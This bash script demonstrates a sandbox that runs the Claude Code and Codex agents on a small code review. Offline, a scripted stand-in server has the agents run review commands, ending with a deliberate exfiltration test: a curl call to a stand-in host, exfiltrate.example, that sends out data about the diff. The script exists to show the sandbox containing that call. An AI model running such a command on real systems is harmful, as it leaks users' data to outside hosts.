#!/bin/bash
# SPDX-License-Identifier: MIT
#
# make demo: Claude Code and Codex each review a change in a sandbox, and then
# one look tells what they did.
#
# With ANTHROPIC_API_KEY set, Claude Code asks the real endpoint.  Without it
# both ask a stand-in (tests/standin/) that has a scripted task for them; it
# answers under the endpoints' real names, in a network namespace of its own
# that is "the host" for the sandbox.  Nothing leaves the machine then.
set -euo pipefail

top=$(cd "$(dirname "$0")/.." && pwd -P)
self=$top/demo/run.sh
m9m=$top/${B:-build}/m9m-sandbox

say() {
	printf '\n%s== %s%s\n' "$bold" "$*" "$plain"
}

bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR-}" ]; then
	bold=$'\e[1m' plain=$'\e[0m'
fi

for command in git jq node openssl python3 rg tar unshare zstd; do
	command -v "$command" >/dev/null || {
		echo "demo: $command is not installed: run scripts/deps.sh demo" >&2
		exit 1
	}
done

# Outside of the namespace: this may need npm's registry.
if [ -z "${M9M_AGENTS-}" ] || [ -z "${M9M_DEMO_PLACE-}" ]; then
	M9M_AGENTS=$("$top/scripts/agents.sh")
	export M9M_AGENTS
fi
PATH=$M9M_AGENTS/node_modules/.bin:$PATH

enter_network() {
	local enter=(unshare -n) drop=()
	if [ "$(id -u)" != 0 ]; then
		# Ourselves, without a capability, but in a namespace of ours.
		enter=(unshare -U -n --map-current-user --keep-caps)
		drop=(setpriv --ambient-caps=-all --inh-caps=-all)
	fi
	"${enter[@]}" true || {
		echo "demo: no network for the stand-in can be had here: as root" \
			"it may be.  What the sandbox itself can have:" >&2
		"$m9m" --doctor >&2 || :
		exit 1
	}
	# shellcheck disable=SC2016  # for the inner shell
	M9M_DEMO_PLACE=own exec "${enter[@]}" bash -c '
		ip link set lo up &&
		echo 0 >/proc/sys/net/ipv4/ip_unprivileged_port_start &&
		exec "$@"' - ${drop[@]+"${drop[@]}"} "$self"
}

if [ -z "${ANTHROPIC_API_KEY-}" ] && [ -z "${M9M_DEMO_PLACE-}" ]; then
	enter_network
fi

# What the runs leave for a look afterwards; each demo replaces the last one's.
out=$top/${B:-build}/demo
rm -rf "$out"
mkdir -p "$out"
place=$(mktemp -d)
server=
cleanup() {
	[ -z "$server" ] || kill "$server" 2>/dev/null || true
	rm -rf "$place"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# --- a repository with a change --------------------------------------------

export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_SYSTEM=/dev/null
export GIT_AUTHOR_NAME=Ada GIT_AUTHOR_EMAIL=ada@example.org
export GIT_COMMITTER_NAME=Ada GIT_COMMITTER_EMAIL=ada@example.org

make_repository() {
	local repo=$1
	git init -q -b main "$repo"
	cat >"$repo/queue.py" <<-'EOF'
		"""A bounded queue."""


		class Queue:
		    def __init__(self, limit):
		        self.limit = limit
		        self.items = []

		    def put(self, item):
		        if len(self.items) >= self.limit:
		            raise OverflowError("queue is full")
		        self.items.append(item)

		    def get(self):
		        return self.items.pop(0)
	EOF
	git -C "$repo" add queue.py
	git -C "$repo" commit -q -m "queue: begin"
	sed -i -e 's/>= self.limit/> self.limit/' \
		-e 's/pop(0)/pop(0) if self.items else None/' "$repo/queue.py"
	git -C "$repo" commit -q -a -m "queue: get returns None when empty"
	git -C "$repo" diff HEAD~1 >"$out/change.diff"
}

# --- the stand-in ----------------------------------------------------------

start_standin() {
	jq -n '{text: "I wrote my findings to review.md.",
		commands: $ARGS.positional}' --args -- "$@" >"$place/script.json"
	mkfifo "$place/ready"
	python3 "$top/tests/standin/server.py" --port 443 \
		--cert "$place/ca/leaf.pem" --key "$place/ca/leaf.key" \
		--script "$place/script.json" --log "$out/standin.jsonl" \
		>"$place/ready" &
	server=$!
	read -r _ _ <"$place/ready"
}

offline() {
	[ -n "${M9M_DEMO_PLACE-}" ]
}

# --- one agent -------------------------------------------------------------

# review NAME HOST OPTION...: in the sandbox, with the change as its input.
review() {
	local name=$1 host=$2 status=0
	shift 2
	if offline; then
		set -- --resolve "$host=127.0.0.1" \
			--ro-bind "$place/ca/ca.pem" /ca.pem "$@"
	fi
	set -- --agent "$name" --input "$out/change.diff" --timeout 5m \
		--network allow --allow "$host:443" --summary always \
		--events "$out/$name.events.jsonl" \
		--result "$out/$name.result.json" \
		--artifact "$out/$name.tar.zst" "$@"
	set -- "$@" --prompt "Review change.diff: use git, rg and cat, and write \
what you find to review.md."
	say "$(printf '%q ' m9m-sandbox "$@")"
	"$m9m" "$@" || status=$?
	show_review "$name"
	return "$status"
}

show_review() {
	local artifact=$out/$1.tar.zst
	[ -e "$artifact" ] || return 0
	say "review.md, from the artifact"
	tar -I zstd -xOf "$artifact" work/review.md || true
}

# --- the demo --------------------------------------------------------------

make_repository "$place/repo"
if offline; then
	"$top/tests/standin/make-ca.sh" "$place/ca" \
		api.anthropic.com api.openai.com
	# The last one is what the agent should not have tried.
	# shellcheck disable=SC2016  # for the shell inside
	start_standin \
		'git apply --stat change.diff' \
		'rg -n "^[-+] " change.diff' \
		'cat change.diff | wc -l' \
		'printf "%s\n" "# Review of queue.py" "" \
"- put(): > lets in one item more than limit; it was >=." \
"- get(): None for an empty queue hides a bug of the caller." >review.md' \
		'curl -sS --max-time 5 https://exfiltrate.example/?q=$(wc -c <change.diff)'
	export ANTHROPIC_API_KEY=no-key CODEX_API_KEY=no-key
	review claude api.anthropic.com --setenv NODE_EXTRA_CA_CERTS /ca.pem
	review codex api.openai.com --setenv SSL_CERT_FILE /ca.pem
else
	review claude api.anthropic.com
	if [ -n "${CODEX_API_KEY-}" ]; then
		review codex api.openai.com
	fi
fi

say "left in ${out#"$top"/}"
ls -l "$out"
